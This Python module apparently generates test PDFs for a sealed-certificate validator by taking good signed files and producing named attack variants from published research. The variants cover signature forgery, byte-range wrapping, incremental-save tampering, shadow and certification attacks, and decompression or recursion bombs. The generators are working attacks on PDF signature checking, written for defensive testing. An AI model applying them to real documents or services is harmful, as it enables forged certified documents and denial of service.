"""Attacks on sealed certificates, generated from good ones: whoever reads this needs no foreign sample.

The classes are those of the literature: universal signature forgery, incremental saving and signature wrapping
(Mladenov et al., CCS 2019), shadow attacks (Mainka et al., NDSS 2021), attacks on certified documents (Rohlmann et al.,
S&P 2021), denial of service by small files (Müller et al., NDSS 2021). Each attack is a name and the bytes.
"""

import io
import re
import zlib
from collections.abc import Callable, Iterator
from datetime import timedelta

from asn1crypto import crl
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name as N
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import MDPPerm
from pyhanko.sign.validation.dss import DocumentSecurityStore
from sealed_samples import OTHER_AGENCY, Sealer, changed, compose, stating

Attack = tuple[str, bytes]
Change = Callable[[IncrementalPdfFileWriter], None]

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\]")
_CONTENTS = re.compile(rb"/Contents\s*<([0-9a-fA-F]{64,})>")


def archived(sealer: Sealer, pdf: bytes) -> bytes:
    """PAdES B-LT: validation data appended. No attack; good material for some."""
    file = io.BytesIO(pdf)
    contents = PdfFileReader(io.BytesIO(pdf)).embedded_signatures[0].sig_object.raw_get("/Contents")
    DocumentSecurityStore.add_dss(file, contents, crls=[crl.CertificateList.load(der) for der in sealer.trust.crls])
    return file.getvalue()


def universal_forgery(good: bytes) -> Iterator[Attack]:
    """The signature is there, but a validator finds nothing to check it by."""
    contents, ranges = _found(_CONTENTS, good), _found(_BYTE_RANGE, good)
    yield "contents of zeros", _laid_over(good, contents.span(1), b"0" * len(contents[1]))
    yield "contents empty", _laid_over(good, contents.span(), b"/Contents <>")
    yield "contents null", _laid_over(good, contents.span(), b"/Contents null")
    yield "contents gone", _laid_over(good, contents.span(), b"/Kontents <00>")
    yield "byte range gone", good.replace(b"/ByteRange", b"/ByteRangy")
    for value in (b"0 0 0 0", b"0 -1 0 -1", b"null", b"0", b"0 99999999 0 0", b"", b"0 1 2 3 4 5 6 7"):
        yield f"byte range {value.decode() or 'empty'}", _laid_over(good, ranges.span(1), value)
    for name in (b"/adbe.pkcs7.sha1", b"/adbe.x509.rsa_sha1", b"/Nothing"):
        yield f"sub-filter {name.decode()}", _laid_over(good, _at(good, b"/ETSI.CAdES.detached"), name)
    yield "type gone", good.replace(b"/Type /Sig\n", b"/Type /Gis\n").replace(b"/Type /Sig ", b"/Type /Gis ")
    yield "field type gone", good.replace(b"/FT /Sig", b"/FT /Tx ")


def wrapping(good: bytes) -> Iterator[Attack]:
    """The second signed range is moved, and a gap opens for bytes that nobody signed."""
    ranges = _found(_BYTE_RANGE, good)
    _, before, resume, after = (int(number) for number in ranges[1].split())
    for name, load in (
        ("comment", b"%FORGED" + b" " * 64),
        ("object", b"\n5 0 obj\n<</Length 6>>stream\nFORGED\nendstream\nendobj\n"),
        (
            "whole revision",
            good[before:resume] + b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<<>>\nstartxref\n0\n%%EOF\n",
        ),
    ):
        new = b"0 %d %d %d" % (before, resume + len(load), after)
        if len(new) <= len(ranges[1]):
            yield f"wrapped {name}", _laid_over(good[:resume] + load + good[resume:], ranges.span(1), new)
    yield "gap widened over the page", _laid_over(good, ranges.span(1), b"0 %d %d %d" % (before // 2, resume, after))
    yield "second range shorter", _laid_over(good, ranges.span(1), b"0 %d %d %d" % (before, resume, after - 9))
    yield (
        "contents moved out",
        good[:before] + b"<" + b"0" * (resume - before - 2) + b">" + good[resume:] + good[before:resume],
    )


def incremental_saving(name: str, source: bytes) -> Iterator[Attack]:
    """Updates after the seal, well formed and not, each as an editor or an attacker would save it."""
    changes: dict[str, Change] = {
        "content replaced": _replace_content,
        "page added": _add_page,
        "page removed": _remove_page,
        "free text": _annotate("/FreeText"),
        "stamp": _annotate("/Stamp"),
        "widget over the page": _annotate("/Widget"),
        "script": _script,
        "page resized": _resize,
        "fonts swapped": _swap_fonts,
        "form field": _field,
        "revocation data clobbered": _clobber_dss,
        "page content and seal's page swapped": _swap_objects,
        "catalogue swapped": _swap_catalogue,
        "statement replaced": _replace_statement,
        "load among the validation data": _load_dss,
    }
    for what, change in changes.items():
        if attacked := _attempt(source, change):
            yield f"{name}: {what}", attacked
    tail = source[source.rindex(b"startxref") :]
    body = b"\n5 0 obj\n<</Length 6>>stream\nFORGED\nendstream\nendobj\n"
    yield f"{name}: object without a table", source + body + b"%%EOF\n"
    yield f"{name}: object, old table named again", source + body + tail
    yield f"{name}: table without a trailer", source + body + b"xref\n5 1\n0000000000 00000 n \n" + tail
    last = int(tail.split()[1])
    new = len(source) + 1
    table = b"xref\n5 1\n%010d 00000 n \ntrailer\n<</Size 99/Root 2 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    yield f"{name}: new table by hand", source + body + table % (new, last, len(source) + len(body))


def junk(good: bytes) -> Iterator[Attack]:
    """Around the file, and one byte in it."""
    for name, load in (
        ("comment", b"\n%junk\n"),
        ("second end", b"%%EOF\n"),
        ("zeros", b"\0" * 512),
        ("program", b"MZ" + b"\x90" * 64),
        ("another PDF", compose(statement=None)),
    ):
        yield f"{name} after the end", good + load
        yield f"{name} before the start", load + good
    flipped = bytearray(good)
    flipped[good.index(b"stream") + 40] ^= 1
    yield "one bit of the page", bytes(flipped)
    yield (
        "load in the signature's padding",
        _laid_over(good, (found := _found(_CONTENTS, good).end(1) - 8, found + 8), b"deadbeef"),
    )


def shadow(sealer: Sealer) -> Iterator[Attack]:
    """Prepared by the author before the seal: content that an update shows, hides or replaces later."""
    hidden = changed(compose(), _prepare_hidden)
    yield "shadow hide, prepared", sealer.seal(hidden)
    yield "shadow hide, shown", _attempt(sealer.seal(hidden), _show_hidden) or b""
    yield "shadow replace, overlay", sealer.seal(changed(compose(), _annotate("/FreeText")))
    yield "shadow replace, empty field over the page", sealer.seal(changed(compose(), _empty_field))
    layered = sealer.seal(changed(compose(), _layer))
    yield "shadow hide-and-replace, layer", layered
    for name, change in (("form", _field), ("script", _script)):
        yield f"shadow replace, {name}", sealer.seal(changed(compose(), change))


def certification(sealer: Sealer) -> Iterator[Attack]:
    """Certified, but so that forms (P2) or annotations (P3) may change, and then changed in exactly this way."""
    for permission in (MDPPerm.FILL_FORMS, MDPPerm.ANNOTATE):
        open_ = sealer.seal(compose(), permission=permission)
        yield f"certified with {permission.name}", open_
        for subtype in ("/FreeText", "/Stamp"):
            if evil := _attempt(open_, _annotate(subtype)):
                yield f"{permission.name}: annotation {subtype} (EAA)", evil
        yield (
            f"{permission.name}: second signature (SSA)",
            sealer.seal(open_, OTHER_AGENCY.code, field="Second", certify=False),
        )
    yield "approved, not certified", sealer.seal(compose(), certify=False)
    closed = sealer.seal(compose())
    found = _at(closed, b"/P 1")
    yield "P1 made P3 afterwards", _laid_over(closed, found, b"/P 3")
    yield "certification entry gone", closed.replace(b"/DocMDP", b"/DocMPD")


def whose(sealer: Sealer, stranger: Sealer) -> Iterator[Attack]:
    """Seals that are no seals of this agency, today; to be judged with the trust of `sealer`."""
    yield "no signature", compose()
    yield (
        "two signatures",
        sealer.seal(
            sealer.seal(compose(), permission=MDPPerm.FILL_FORMS), OTHER_AGENCY.code, field="Second", certify=False
        ),
    )
    yield "revoked", sealer.seal(compose(), revoked=True)
    yield "other root", stranger.seal(compose())
    yield "signature of another file", _transplanted(sealer.seal(compose()), sealer.seal(compose("Number 0")))


def bombs() -> Iterator[Attack]:
    """Small files that cost much: tables, object streams, pictures, trees without an end."""
    zeros = zlib.compress(b"\0" * (1 << 20), 9)
    for layers in (1, 2):
        packed = zlib.compress(zeros * 4000, 9) if layers == 2 else zlib.compress(b"\0" * (300 << 20), 9)
        filters = b"[" + b"/FlateDecode" * layers + b"]"
        yield f"cross-reference stream, {layers} layers", _xref_bomb(packed, filters)
        yield (
            f"object stream, {layers} layers",
            _plain(
                b"<</Type/ObjStm/N 1/First 4/Filter%s/Length %d>>stream\n%s\nendstream" % (filters, len(packed), packed)
            ),
        )
        yield (
            f"picture, {layers} layers",
            _plain(
                b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8"
                b"/Filter%s/Length %d>>stream\n%s\nendstream" % (filters, len(packed), packed)
            ),
        )
    many = zlib.compress(b"q " * (8 << 20), 9)
    yield (
        "ten streams of 16 MB",
        _plain(*(b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(many), many) for _ in range(10))),
    )
    yield "page tree that loops", _plain(b"<<>>", pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield (
        "page tree of two that loop",
        _plain(b"<</Type/Pages/Kids[2 0 R]/Count 1>>", pages=b"<</Type/Pages/Kids[4 0 R]/Count 1>>"),
    )
    yield "a million pages", _plain(b"<<>>", pages=b"<</Type/Pages/Kids[%s]/Count 1000000>>" % (b"3 0 R " * 1_000_000))
    yield "reference to itself", _plain(b"4 0 R")
    yield "length that refers to its own stream", _plain(b"<</Length 4 0 R>>stream\nx\nendstream")
    yield "arrays a hundred thousand deep", _plain(b"[" * 100_000 + b"]" * 100_000)
    yield "dictionaries a hundred thousand deep", _plain(b"<</A" * 100_000 + b">>" * 100_000)
    yield "table that leads to itself", _looping_table()
    yield "table of two thousand million objects", _plain(b"<<>>").replace(b"xref\n0 5", b"xref\n0 2000000000")
    yield "a number of a million digits", _plain(b"9" * 1_000_000)
    yield "a name of a million letters", _plain(b"/" + b"A" * 1_000_000)


def truncated(good: bytes, every: int = 1024) -> Iterator[Attack]:
    for length in range(0, len(good), every):
        yield f"cut off at {length} bytes", good[:length]
        yield f"cut off at {length} bytes, with an end", good[:length] + b"\nstartxref\n0\n%%EOF\n"


def later() -> dict[str, timedelta]:
    """Moments at which a good file is none: to be judged with CRLs that are fresh then."""
    return {"expired": timedelta(days=398), "not yet valid": timedelta(days=-2)}


# --- how ------------------------------------------------------------------------------------------------------------


def _found(pattern: re.Pattern[bytes], pdf: bytes) -> re.Match[bytes]:
    found = pattern.search(pdf)
    assert found is not None, pattern.pattern
    return found


def _at(pdf: bytes, what: bytes) -> tuple[int, int]:
    start = pdf.index(what)
    return start, start + len(what)


def _laid_over(pdf: bytes, span: tuple[int, int], new: bytes) -> bytes:
    """`new` in the room of what was there, so that nothing else moves."""
    room = span[1] - span[0]
    assert len(new) <= room
    return pdf[: span[0]] + new.ljust(room) + pdf[span[1] :]


def _attempt(source: bytes, change: Change) -> bytes | None:
    """None where this source has nothing that could be changed in this way."""
    try:
        return changed(source, change)
    except (KeyError, IndexError):
        return None


def _transplanted(body: bytes, donor: bytes) -> bytes:
    place, signature = _found(_CONTENTS, body), _found(_CONTENTS, donor)[1]
    return _laid_over(body, place.span(1), signature[: len(place[1])])


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page: generic.DictionaryObject = writer.root["/Pages"]["/Kids"][0].get_object()
    return page


def _rect(*numbers: int) -> generic.ArrayObject:
    return generic.ArrayObject(map(generic.NumberObject, numbers))


def _replace_content(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=b"BT (FORGED) Tj ET"))
    writer.update_container(page)


def _add_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    entries = {
        N("/Type"): N("/Page"),
        N("/Parent"): writer.root.raw_get("/Pages"),
        N("/MediaBox"): _rect(0, 0, 595, 842),
    }
    pages["/Kids"].append(writer.add_object(generic.DictionaryObject(entries)))
    pages["/Count"] = generic.NumberObject(pages["/Count"] + 1)
    writer.update_container(pages["/Kids"])
    writer.update_container(pages)


def _remove_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"] = generic.ArrayObject()
    pages["/Count"] = generic.NumberObject(0)
    writer.update_container(pages)


def _annotate(subtype: str) -> Change:
    def change(writer: IncrementalPdfFileWriter) -> None:
        white = {N("/Type"): N("/XObject"), N("/Subtype"): N("/Form"), N("/BBox"): _rect(0, 0, 400, 200)}
        look = generic.StreamObject(white, stream_data=b"1 1 1 rg 0 0 400 200 re f")
        entries = {
            N("/Type"): N("/Annot"),
            N("/Subtype"): N(subtype),
            N("/Rect"): _rect(80, 500, 480, 700),
            N("/F"): generic.NumberObject(4),
            N("/AP"): generic.DictionaryObject({N("/N"): writer.add_object(look)}),
        }
        page = _page(writer)
        old = list(page["/Annots"]) if "/Annots" in page else []
        page["/Annots"] = generic.ArrayObject([*old, writer.add_object(generic.DictionaryObject(entries))])
        writer.update_container(page)

    return change


def _script(writer: IncrementalPdfFileWriter) -> None:
    action = {N("/S"): N("/JavaScript"), N("/JS"): generic.pdf_string("app.alert(1)")}
    writer.root["/OpenAction"] = writer.add_object(generic.DictionaryObject(action))
    writer.update_root()


def _resize(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    page["/CropBox"] = _rect(0, 0, 100, 100)
    writer.update_container(page)


def _swap_fonts(writer: IncrementalPdfFileWriter) -> None:
    """Other glyphs for the same characters: the text stays, the page does not."""
    page = _page(writer)
    fonts = page["/Resources"]["/Font"]
    name = next(iter(fonts))
    other = {N("/Type"): N("/Font"), N("/Subtype"): N("/Type1"), N("/BaseFont"): N("/Symbol")}
    page["/Resources"]["/Font"][name] = writer.add_object(generic.DictionaryObject(other))
    writer.update_container(page["/Resources"]["/Font"])


def _field(writer: IncrementalPdfFileWriter) -> None:
    entries = {N("/FT"): N("/Tx"), N("/T"): generic.pdf_string("name"), N("/V"): generic.pdf_string("FORGED")}
    field = writer.add_object(generic.DictionaryObject(entries))
    if "/AcroForm" in writer.root:
        form = writer.root["/AcroForm"]
        form["/Fields"].append(field)
        writer.update_container(form["/Fields"])
    else:
        form = generic.DictionaryObject({N("/Fields"): generic.ArrayObject([field])})
        writer.root["/AcroForm"] = writer.add_object(form)
        writer.update_root()


def _empty_field(writer: IncrementalPdfFileWriter) -> None:
    """A signature field without a signature, that shows something."""
    _annotate("/Widget")(writer)
    page = _page(writer)
    field = page["/Annots"][-1]
    field["/FT"], field["/T"] = N("/Sig"), generic.pdf_string("Spare")
    form = generic.DictionaryObject({N("/Fields"): generic.ArrayObject([page["/Annots"].raw_get(-1)])})
    writer.root["/AcroForm"] = writer.add_object(form)
    writer.update_root()


def _clobber_dss(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/DSS"]  # only where there is one
    writer.root["/DSS"] = generic.DictionaryObject(
        {N("/Certs"): generic.ArrayObject([writer.add_object(generic.StreamObject(stream_data=b"FORGED"))])}
    )
    writer.update_root()


def _load_dss(writer: IncrementalPdfFileWriter) -> None:
    store = writer.root["/DSS"]
    load = writer.add_object(generic.StreamObject(stream_data=b"FORGED"))
    store["/Certs"] = generic.ArrayObject([*store["/Certs"], load])
    writer.update_container(store)


def _replace_statement(writer: IncrementalPdfFileWriter) -> None:
    packet = {N("/Type"): N("/Metadata"), N("/Subtype"): N("/XML")}
    forged = stating(kind="property").xmp().encode()
    writer.root["/Metadata"] = writer.add_object(generic.StreamObject(packet, stream_data=forged))
    writer.update_root()


def _swap_objects(writer: IncrementalPdfFileWriter) -> None:
    """The object number of the page's content gets another object."""
    reference = _page(writer).raw_get("/Contents").reference
    writer.objects[(reference.generation, reference.idnum)] = generic.StreamObject(stream_data=b"BT (FORGED) Tj ET")


def _swap_catalogue(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/PageLayout"] = N("/TwoColumnLeft")
    writer.update_root()


def _prepare_hidden(writer: IncrementalPdfFileWriter) -> None:
    writer.add_object(generic.StreamObject(stream_data=b"BT (FORGED) Tj ET"))


def _show_hidden(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    last = max(number for _, number in _numbers(writer))
    page["/Contents"] = generic.IndirectObject(last, 0, writer.prev)
    writer.update_container(page)


def _numbers(writer: IncrementalPdfFileWriter) -> set[tuple[int, int]]:
    table = writer.prev.xrefs.get_xref_data(0).explicit_refs_in_revision
    return {(generation, number) for number, generation in table}


def _layer(writer: IncrementalPdfFileWriter) -> None:
    group = writer.add_object(generic.DictionaryObject({N("/Type"): N("/OCG"), N("/Name"): generic.pdf_string("x")}))
    shown = generic.DictionaryObject({N("/OFF"): generic.ArrayObject([group])})
    entries = {N("/OCGs"): generic.ArrayObject([group]), N("/D"): shown}
    writer.root["/OCProperties"] = writer.add_object(generic.DictionaryObject(entries))
    writer.update_root()


def _plain(*objects: bytes, pages: bytes = b"<</Type/Pages/Kids[3 0 R]/Count 1>>") -> bytes:
    """A file of one page, with `objects` from number 4 on, all of them within reach."""
    spare = b" ".join(b"%d 0 R" % number for number in range(4, 4 + len(objects)))
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        pages,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Spare[%s]>>" % spare,
        *objects,
    ]
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, table)
    return bytes(out)


def _xref_bomb(packed: bytes, filters: bytes) -> bytes:
    head = b"%PDF-1.7\n"
    table = b"1 0 obj\n<</Type/XRef/W[1 2 1]/Size 9/Root 2 0 R/Filter%s/Length %d>>stream\n" % (filters, len(packed))
    return head + table + packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def _looping_table() -> bytes:
    whole = _plain(b"<<>>")
    table = whole.index(b"xref\n")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % table)
